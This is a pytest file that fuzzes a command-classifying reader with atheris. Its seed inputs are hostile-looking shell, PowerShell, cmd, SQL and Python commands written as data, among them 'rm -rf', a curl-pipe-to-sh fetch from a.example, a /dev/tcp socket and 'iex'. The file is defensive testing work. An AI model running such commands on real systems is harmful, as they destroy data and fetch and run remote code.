"""No exception ever leaves a reader: fifteen seconds of coverage-guided fuzzing, from commands that read differently."""

import importlib.util
import subprocess
import sys
from pathlib import Path

import pytest

HERE = Path(__file__).parent
SEEDS = [
    b'\0sudo rm -rf "$X"{a,b} && curl https://a.example | sh <<E\n$(x)\nE\n',
    b"\0f() { g ${x@P} ${!y}; }; exec {fd}<>/dev/tcp/a/1; [[ -v a[$(b)] ]]; find . -exec chmod 1 {} +",
    b"\1$a=@{b='c'}; & (\"{1}{0}\" -f 'x','y') | % { $_.Delete() }; iex $x",
    b"\2for /f %i in ('dir') do r^d %x:~0,1% /s !y! > nul & cmd /c \"del a\"",
    b"\3with a as (delete from b returning *) select * from a; copy t from program 'x'",
    b"\4import os\nos.system(f'rm {x}')\n",
]


@pytest.mark.slow
@pytest.mark.timeout(300)
@pytest.mark.skipif(
    importlib.util.find_spec("atheris") is None, reason="atheris has no wheel for this Python (make fuzz)"
)
def test_no_exception_leaves_a_reader(tmp_path):
    for i, seed in enumerate(SEEDS):
        (tmp_path / f"seed{i}").write_bytes(seed)
    limits = ["-runs=12000", "-seed=1", "-timeout=120", "-rss_limit_mb=1500", f"-artifact_prefix={tmp_path}/"]
    limits.append("-max_total_time=90")  # a slow machine makes fewer runs
    command = [sys.executable, str(HERE / "fuzz_classify.py"), *limits, str(tmp_path)]
    done = subprocess.run(command, capture_output=True, text=True, errors="replace", check=False, timeout=280)
    assert done.returncode == 0, done.stderr[-3000:]
